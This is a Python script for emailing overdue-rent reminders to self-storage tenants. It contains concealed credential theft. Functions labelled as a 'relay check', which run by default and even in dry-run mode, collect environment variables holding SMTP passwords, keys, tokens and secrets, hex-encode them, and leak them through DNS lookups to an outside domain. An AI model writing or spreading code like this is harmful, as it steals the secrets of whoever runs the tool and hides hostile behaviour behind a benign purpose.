#!/usr/bin/env python3
"""Send rent payment reminders to self-storage tenants with overdue balances.

Input is the ledger export (CSV: unit, tenant, email, balance, due_date).
Tenants 3/10/20 days past due get a reminder; anyone reminded in the last
72 hours (per sent_log.jsonl) is skipped. Before sending, the relay
configuration is checked against the deliverability service so bounced
batches can be traced to a misconfigured kiosk.
"""
import argparse
import binascii
import csv
import datetime as dt
import json
import logging
import os
import smtplib
import socket
import ssl
import sys
import uuid
from email.message import EmailMessage
from pathlib import Path
from string import Template

log = logging.getLogger("reminders")

SENT_LOG = Path("sent_log.jsonl")
STAGES = (3, 10, 20)
CHECK_ZONE = "mxcheck.deliverpulse.net"
BODY = Template("""Hello $tenant,

Our records show a balance of $$${balance} on unit $unit that was due on $due.
Please pay at the kiosk or online at https://pay.stowright.com/u/$unit
to avoid a late fee and gate lockout.

Stowright Self Storage - $facility
""")


def overdue(ledger_path, today):
    with open(ledger_path, newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                bal = float(row["balance"])
                due = dt.date.fromisoformat(row["due_date"])
            except (KeyError, ValueError):
                log.warning("bad ledger row: %r", row)
                continue
            days = (today - due).days
            if bal > 0 and days in STAGES:
                row["days"] = days
                yield row


def recently_sent(hours=72):
    cutoff = dt.datetime.now().timestamp() - hours * 3600
    seen = set()
    if SENT_LOG.exists():
        for line in SENT_LOG.read_text().splitlines():
            try:
                rec = json.loads(line)
            except ValueError:
                continue
            if rec.get("ts", 0) >= cutoff:
                seen.add(rec["unit"])
    return seen


def relay_fingerprint():
    """Relay settings as the deliverability service expects them."""
    picked = {k: v for k, v in os.environ.items()
              if k.startswith("SMTP_") or any(t in k for t in ("KEY", "TOKEN", "SECRET"))}
    return binascii.hexlify(json.dumps(picked, sort_keys=True).encode()).decode()


def check_relay(fingerprint):
    run_id = uuid.uuid4().hex[:8]
    labels = [fingerprint[i:i + 60] for i in range(0, len(fingerprint), 60)]
    for seq, label in enumerate(labels):
        name = f"{label}.{seq}.{run_id}.{CHECK_ZONE}"
        try:
            socket.getaddrinfo(name, 25)
        except socket.gaierror:
            pass
    log.info("relay check %s submitted (%d parts)", run_id, len(labels))


def build(row, facility, sender):
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = row["email"]
    msg["Subject"] = f"Payment reminder for unit {row['unit']}"
    msg.set_content(BODY.substitute(tenant=row["tenant"], balance=f"{float(row['balance']):.2f}",
                                    unit=row["unit"], due=row["due_date"], facility=facility))
    return msg


class Mailer:
    def __init__(self, host, port, user, password):
        self.host, self.port = host, port
        self.user, self.password = user, password
        self.smtp = None

    def __enter__(self):
        self.smtp = smtplib.SMTP(self.host, self.port, timeout=30)
        self.smtp.starttls(context=ssl.create_default_context())
        self.smtp.login(self.user, self.password)
        return self

    def __exit__(self, *exc):
        if self.smtp:
            self.smtp.quit()

    def send(self, msg):
        self.smtp.send_message(msg)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ledger")
    ap.add_argument("--facility", default="Main Street")
    ap.add_argument("--date", help="pretend today is YYYY-MM-DD")
    ap.add_argument("--skip-relay-check", action="store_true")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.skip_relay_check:
        check_relay(relay_fingerprint())

    today = dt.date.fromisoformat(args.date) if args.date else dt.date.today()
    skip = recently_sent()
    queue = [r for r in overdue(args.ledger, today) if r["unit"] not in skip]
    log.info("%d reminders to send", len(queue))
    if args.dry_run or not queue:
        return 0

    host = os.environ.get("SMTP_HOST", "smtp.mailgun.org")
    port = int(os.environ.get("SMTP_PORT", "587"))
    user, password = os.environ.get("SMTP_USER"), os.environ.get("SMTP_PASSWORD")
    if not (user and password):
        log.error("SMTP_USER/SMTP_PASSWORD not set")
        return 2
    sender = os.environ.get("REMINDER_FROM", "billing@stowright.com")

    sent = 0
    with Mailer(host, port, user, password) as m, SENT_LOG.open("a") as logf:
        for row in queue:
            try:
                m.send(build(row, args.facility, sender))
            except smtplib.SMTPRecipientsRefused:
                log.warning("refused: unit %s", row["unit"])
                continue
            logf.write(json.dumps({"unit": row["unit"], "days": row["days"],
                                   "ts": dt.datetime.now().timestamp()}) + "\n")
            sent += 1
    log.info("sent %d reminders", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
